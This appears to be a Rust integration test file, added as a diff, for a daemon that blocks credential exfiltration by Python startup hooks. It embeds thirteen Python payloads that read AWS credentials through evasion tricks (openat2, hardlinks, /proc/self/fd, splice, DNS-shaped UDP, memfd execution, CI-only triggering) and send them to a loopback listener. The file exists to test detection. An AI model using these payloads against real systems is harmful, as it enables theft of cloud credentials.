@@ -1,0 +1,255 @@
+//! Evasion classes, each against the real kernel in block mode: a startup hook's child
+//! reads the sandbox's AWS credentials in some roundabout way and sends them to a
+//! loopback listener. Zero bytes may arrive, and the alert must name the hook.
+//!
+//! The daemon is told the sandbox HOME is a home (`--home`), so its credentials are also
+//! catalogued by identity (inode), as real homes are: hardlinks and descriptor tricks do
+//! not change an inode. Payloads are guarded by `PTHW_CHILD`; every wait is bounded.
+use std::time::Duration;
+
+use integration_tests::{
+    Daemon, Sandbox, TcpSink, UdpSink, can_run,
+    payload::{spawning_pth_line, wait_marker},
+    real, run_bounded,
+};
+
+/// Prelude of every payload: where HOME and the credentials are.
+const PRELUDE: &str = "import os, socket, sys
+home = os.path.expanduser('~')
+cred = os.path.join(home, '.aws', 'credentials')
+";
+
+/// Sends `blob` to the TCP listener on `PORT`; leaves the outcome in `r`.
+const SEND_TCP: &str = "
+try:
+    s = socket.create_connection(('127.0.0.1', PORT), timeout=5)
+    s.sendall(blob)
+    s.close()
+    r = 'sent'
+except OSError as e:
+    r = 'error %d' % e.errno
+";
+
+const FINISH: &str = "
+with open(os.path.join(home, 'payload.done'), 'w') as f:
+    f.write(r)
+";
+
+struct Case {
+    name: &'static str,
+    /// Reads the credentials into `blob` (and may send them itself, setting `r`).
+    read: &'static str,
+    /// Whether `read` already sent (and set `r`).
+    sends_itself: bool,
+    udp: bool,
+    env: &'static [(&'static str, &'static str)],
+    /// Another rule that must fire too.
+    also: Option<&'static str>,
+}
+
+const CASES: &[Case] = &[
+    Case {
+        name: "relative-path",
+        read: "os.chdir(os.path.join(home, '.aws'))\nblob = open('credentials', 'rb').read()\n",
+        sends_itself: false,
+        udp: false,
+        env: &[],
+        also: None,
+    },
+    Case {
+        name: "openat-dirfd",
+        read: "d = os.open(os.path.join(home, '.aws'), os.O_RDONLY | os.O_DIRECTORY)\nfd = os.open('credentials', os.O_RDONLY, dir_fd=d)\nblob = os.read(fd, 4096)\n",
+        sends_itself: false,
+        udp: false,
+        env: &[],
+        also: None,
+    },
+    Case {
+        name: "openat2",
+        read: "import ctypes, struct\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\nhow = ctypes.create_string_buffer(struct.pack('QQQ', os.O_RDONLY, 0, 0))\nfd = libc.syscall(437, -100, cred.encode(), how, 24)\nassert fd >= 0, ctypes.get_errno()\nblob = os.read(fd, 4096)\n",
+        sends_itself: false,
+        udp: false,
+        env: &[],
+        also: None,
+    },
+    Case {
+        name: "symlink",
+        read: "link = '/tmp/pthw-evasion-%d' % os.getpid()\nos.symlink(cred, link)\nblob = open(link, 'rb').read()\nos.unlink(link)\n",
+        sends_itself: false,
+        udp: false,
+        env: &[],
+        also: None,
+    },
+    Case {
+        name: "hardlink",
+        read: "alias = os.path.join(home, 'innocent.txt')\nos.link(cred, alias)\nblob = open(alias, 'rb').read()\n",
+        sends_itself: false,
+        udp: false,
+        env: &[],
+        also: None,
+    },
+    Case {
+        name: "proc-self-root",
+        read: "blob = open('/proc/self/root' + cred, 'rb').read()\n",
+        sends_itself: false,
+        udp: false,
+        env: &[],
+        also: None,
+    },
+    Case {
+        name: "proc-self-fd",
+        read: "p = os.open(cred, os.O_PATH)\nblob = open('/proc/self/fd/%d' % p, 'rb').read()\n",
+        sends_itself: false,
+        udp: false,
+        env: &[],
+        also: None,
+    },
+    Case {
+        name: "sendfile",
+        read: "fd = os.open(cred, os.O_RDONLY)\ntry:\n    s = socket.create_connection(('127.0.0.1', PORT), timeout=5)\n    os.sendfile(s.fileno(), fd, 0, 4096)\n    s.close()\n    r = 'sent'\nexcept OSError as e:\n    r = 'error %d' % e.errno\n",
+        sends_itself: true,
+        udp: false,
+        env: &[],
+        also: None,
+    },
+    Case {
+        name: "mmap-splice",
+        read: "import mmap\nfd = os.open(cred, os.O_RDONLY)\nm = mmap.mmap(fd, 0, prot=mmap.PROT_READ)\nrp, wp = os.pipe()\nos.write(wp, m[:])\ntry:\n    s = socket.create_connection(('127.0.0.1', PORT), timeout=5)\n    os.splice(rp, s.fileno(), len(m))\n    s.close()\n    r = 'sent'\nexcept OSError as e:\n    r = 'error %d' % e.errno\n",
+        sends_itself: true,
+        udp: false,
+        env: &[],
+        also: None,
+    },
+    Case {
+        name: "dns-shaped",
+        read: "import base64\nblob = open(cred, 'rb').read()\nlabels = base64.b32encode(blob).decode().rstrip('=').lower()\nq = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'\nfor i in range(0, len(labels), 60):\n    part = labels[i:i + 60].encode()\n    q += bytes([len(part)]) + part\nq += b'\\x05exfil\\x07example\\x00\\x00\\x10\\x00\\x01'\nu = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n    u.sendto(q, ('127.0.0.1', PORT))\n    r = 'sent'\nexcept OSError as e:\n    r = 'error %d' % e.errno\n",
+        sends_itself: true,
+        udp: true,
+        env: &[],
+        also: None,
+    },
+    Case {
+        name: "only-in-ci",
+        read: "if not os.environ.get('CI'):\n    sys.exit(0)\nblob = open(cred, 'rb').read()\n",
+        sends_itself: false,
+        udp: false,
+        env: &[("CI", "true"), ("GITHUB_ACTIONS", "true")],
+        also: None,
+    },
+    Case {
+        name: "dropped-to-disk-and-run",
+        read: "import subprocess\nstage = os.path.join(home, '.cache', 'sysmon.py')\nos.makedirs(os.path.dirname(stage), exist_ok=True)\nwith open(stage, 'w') as f:\n    f.write('#!/usr/bin/python3.11\\nimport os, socket\\nblob = open(%r, \"rb\").read()\\ntry:\\n    s = socket.create_connection((\"127.0.0.1\", PORT), timeout=5)\\n    s.sendall(blob)\\n    print(\"sent\")\\nexcept OSError as e:\\n    print(\"error %%d\" %% e.errno)\\n' % cred)\nos.chmod(stage, 0o755)\nr = subprocess.run([stage], capture_output=True, text=True).stdout.strip()\n",
+        sends_itself: true,
+        udp: false,
+        env: &[],
+        also: Some("hook_exec_written_file"),
+    },
+    Case {
+        name: "memfd-exec",
+        read: "import subprocess\nm = os.memfd_create('kworker', 0)\nos.write(m, ('#!/usr/bin/python3.11\\nimport os, socket\\nblob = open(%r, \"rb\").read()\\ntry:\\n    s = socket.create_connection((\"127.0.0.1\", PORT), timeout=5)\\n    s.sendall(blob)\\n    print(\"sent\")\\nexcept OSError as e:\\n    print(\"error %%d\" %% e.errno)\\n' % cred).encode())\nr = subprocess.run(['/proc/self/fd/%d' % m], pass_fds=[m], capture_output=True, text=True).stdout.strip()\n",
+        sends_itself: true,
+        udp: false,
+        env: &[],
+        also: Some("hook_exec_written_file"),
+    },
+];
+
+fn run_case(case: &Case) {
+    let sb = Sandbox::new(case.name);
+    let tcp = TcpSink::start();
+    let udp = UdpSink::start();
+    let port = if case.udp { udp.port } else { tcp.port };
+    let mut code = format!("{PRELUDE}{}", case.read);
+    if !case.sends_itself {
+        code.push_str(SEND_TCP);
+    }
+    code.push_str(FINISH);
+    let code = code.replace("PORT", &port.to_string());
+    let pth = sb.pth(
+        &format!("{}.pth", case.name.replace('-', "_")),
+        &spawning_pth_line(&code),
+    );
+    let home = sb.home.to_string_lossy().into_owned();
+    let daemon = Daemon::start("block", &["--home", &home]);
+    let mut cmd = sb.command(integration_tests::PYTHON);
+    for (k, v) in case.env {
+        cmd.env(k, v);
+    }
+    let (status, out) = run_bounded(cmd.args(["-c", "pass"]), Duration::from_secs(60));
+    assert_eq!(status, 0, "{}: {out}", case.name);
+    let done = wait_marker(&sb, Duration::from_secs(20));
+    let alert = daemon.wait_alert(Duration::from_secs(10), |a| {
+        a["rule"] == "hook_credential_exfiltration"
+    });
+    let also = case
+        .also
+        .map(|rule| daemon.wait_alert(Duration::from_secs(10), |a| a["rule"] == rule));
+    let alerts = daemon.stop();
+    let sent = tcp.bytes() + udp.bytes();
+    assert_eq!(
+        sent, 0,
+        "{}: {sent} bytes left (payload said {done:?})",
+        case.name
+    );
+    assert!(
+        done.as_deref().is_some_and(|d| d.starts_with("error")),
+        "{}: the payload must have been refused, it said {done:?}",
+        case.name
+    );
+    let alert =
+        alert.unwrap_or_else(|| panic!("{}: no exfiltration alert in {alerts:#?}", case.name));
+    assert_eq!(alert["action"], "blocked", "{}: {alert:#}", case.name);
+    assert_eq!(
+        alert["startup_hook"]["path"].as_str(),
+        Some(&*real(&pth).to_string_lossy()),
+        "{}: {alert:#}",
+        case.name
+    );
+    if let (Some(rule), Some(found)) = (case.also, also) {
+        assert!(
+            found.is_some(),
+            "{}: no {rule} alert in {alerts:#?}",
+            case.name
+        );
+    }
+}
+
+macro_rules! evasion_tests {
+    ($($test:ident => $name:literal,)*) => {$(
+        #[test]
+        fn $test() {
+            if can_run() {
+                let case = CASES.iter().find(|c| c.name == $name).expect("case");
+                run_case(case);
+            }
+        }
+    )*};
+}
+
+evasion_tests! {
+    evasion_relative_path => "relative-path",
+    evasion_openat_dirfd => "openat-dirfd",
+    evasion_openat2 => "openat2",
+    evasion_symlink => "symlink",
+    evasion_hardlink => "hardlink",
+    evasion_proc_self_root => "proc-self-root",
+    evasion_proc_self_fd => "proc-self-fd",
+    evasion_sendfile => "sendfile",
+    evasion_mmap_splice => "mmap-splice",
+    evasion_dns_shaped_udp => "dns-shaped",
+    evasion_only_in_ci => "only-in-ci",
+    evasion_dropped_to_disk_and_run => "dropped-to-disk-and-run",
+    evasion_memfd_exec => "memfd-exec",
+}
+
+#[test]
+fn every_case_has_a_test() {
+    let tests = include_str!("evasion.rs");
+    for case in CASES {
+        assert!(
+            tests.contains(&format!("=> \"{}\",", case.name)),
+            "case {} has no test",
+            case.name
+        );
+    }
+}
